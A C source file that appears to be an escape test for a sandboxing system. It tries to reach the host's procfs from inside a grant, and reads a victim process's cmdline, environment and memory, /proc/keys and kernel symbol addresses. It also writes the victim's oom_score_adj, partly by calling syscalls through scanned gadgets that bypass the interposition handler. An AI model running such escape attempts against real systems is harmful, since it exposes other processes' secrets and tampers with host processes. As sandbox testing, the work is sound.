/* A procfs of the host's inside a grant somewhere other than `proc` right
 * below the grant's root (a chroot's /proc in a grant of its parent, a
 * procfs mounted anywhere in a grant of /): `cover_procfs` covers only
 * `proc`. argv[1]: the procfs's virtual path in the session (through the
 * handler: the server's walk or the process's resolution beneath the
 * grant); argv[2]: the same path relative to the grant's root (around the
 * handler: every directory fd of the process, through ld-preld's
 * `syscall; ret`); argv[3]: the host pid of a process outside the session
 * (the test's `sleep`); argv[4] (optional): the procfs's path through `..`
 * (`/usr/../DIR/a/p`: the server's walk, whose opens are made with the
 * server's credentials). Tries: the victim's cmdline, /proc/keys, to
 * write the victim's oom_score_adj (a grant read-write: a root session's
 * euid is the host's root, which owns the host's root processes' files),
 * and /proc/kallsyms's addresses (shown to an opener with CAP_SYSLOG: the
 * kernel looks at the opener's credentials, the server's). Anything got
 * prints ESCAPE; so do the victim's environment and memory (maps, then
 * pread of mem: a root session's euid is the victim's, and the server's
 * walk opens with the server's credentials, CAP_SYS_PTRACE). */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }

static void rd(const char *label, long fd, int gadget) {
    if (fd < 0) {
        printf("%s: %s\n", label, strerror((int)-fd));
        fflush(stdout);
        return;
    }
    char buf[128];
    long n = gadget ? g(SYS_read, fd, (long)buf, sizeof buf - 1, 0) : raw(SYS_read, fd, buf, sizeof buf - 1, 0);
    if (n > 0) {
        for (long i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
        buf[n] = 0;
    }
    printf("%s: opened, read %ld%s%s\n", label, n, n > 0 ? " ESCAPE: the host's procfs: " : "", n > 0 ? buf : "");
    fflush(stdout);
    gadget ? g(SYS_close, fd, 0, 0, 0) : raw(SYS_close, fd, 0, 0, 0);
}

static void wr(const char *label, long fd, int gadget) {
    if (fd < 0) {
        printf("%s: %s\n", label, strerror((int)-fd));
        fflush(stdout);
        return;
    }
    long n = gadget ? g(SYS_write, fd, (long)"1000", 4, 0) : raw(SYS_write, fd, "1000", 4, 0);
    printf("%s: opened for writing, write %ld%s\n", label, n, n > 0 ? " ESCAPE: wrote a host process's oom_score_adj" : "");
    fflush(stdout);
    gadget ? g(SYS_close, fd, 0, 0, 0) : raw(SYS_close, fd, 0, 0, 0);
}

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: procfs_elsewhere VPATH RELPATH HOST_PID [DOTDOT]\n"); return 2; }
    const char *vp = argv[1], *rel = argv[2], *pid = argv[3];
    char p[512], label[600];
    snprintf(p, sizeof p, "%s/%s/cmdline", vp, pid);
    rd("libc open VPATH/HOST_PID/cmdline", lc(open(p, O_RDONLY)), 0);
    snprintf(p, sizeof p, "%s/keys", vp);
    rd("libc open VPATH/keys", lc(open(p, O_RDONLY)), 0);
    snprintf(p, sizeof p, "%s/%s/oom_score_adj", vp, pid);
    wr("libc open VPATH/HOST_PID/oom_score_adj O_WRONLY", lc(open(p, O_WRONLY)), 0);

    /* The victim's environment and memory (a readable mapping's first
     * bytes, from its maps), through the handler and the server's walk. */
    for (int i = 1; i <= 4 && i < argc; i += 3) {
        const char *how = i == 1 ? "VPATH" : "DOTDOT";
        snprintf(p, sizeof p, "%s/%s/environ", argv[i], pid);
        snprintf(label, sizeof label, "libc open %s/HOST_PID/environ", how);
        rd(label, lc(open(p, O_RDONLY)), 0);
        snprintf(p, sizeof p, "%s/%s/maps", argv[i], pid);
        FILE *m = fopen(p, "r");
        unsigned long lo = 0;
        char line[512], perms[8];
        while (m && fgets(line, sizeof line, m))
            if (sscanf(line, "%lx-%*lx %7s", &lo, perms) == 2 && perms[0] == 'r') break;
        if (m) fclose(m);
        snprintf(p, sizeof p, "%s/%s/mem", argv[i], pid);
        long f = lc(open(p, O_RDONLY));
        unsigned char b[8];
        long n = f < 0 ? f : lc(pread((int)f, b, sizeof b, (off_t)lo));
        if (f >= 0) close((int)f);
        printf("libc pread %s/HOST_PID/mem at %#lx: %s%s\n", how, lo, n < 0 ? strerror((int)-n) : "read", n > 0 ? " ESCAPE: a host process's memory" : "");
    }
    for (int i = 1; i <= 4 && i < argc; i += 3) {
        snprintf(p, sizeof p, "%s/kallsyms", argv[i]);
        long k = lc(open(p, O_RDONLY));
        char buf[64] = {0};
        long n = k < 0 ? k : raw(SYS_read, k, buf, 16, 0);
        if (k >= 0) close((int)k);
        int addr = n == 16 && strspn(buf, "0") < 16;
        printf("libc read %s/kallsyms: %s%s\n", i == 1 ? "VPATH" : "DOTDOT", n < 0 ? strerror((int)-n) : buf, addr ? " ESCAPE: the kernel's addresses" : "");
    }
    fflush(stdout);

    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g(SYS_fstat, fd, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        snprintf(p, sizeof p, "%s/%s/cmdline", rel, pid);
        snprintf(label, sizeof label, "openat(dir fd %ld, RELPATH/HOST_PID/cmdline)", fd);
        rd(label, g(SYS_openat, fd, (long)p, O_RDONLY, 0), 1);
        snprintf(p, sizeof p, "%s/keys", rel);
        snprintf(label, sizeof label, "openat(dir fd %ld, RELPATH/keys)", fd);
        rd(label, g(SYS_openat, fd, (long)p, O_RDONLY, 0), 1);
        snprintf(p, sizeof p, "%s/%s/oom_score_adj", rel, pid);
        snprintf(label, sizeof label, "openat(dir fd %ld, RELPATH/HOST_PID/oom_score_adj, O_WRONLY)", fd);
        wr(label, g(SYS_openat, fd, (long)p, O_WRONLY, 0), 1);
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
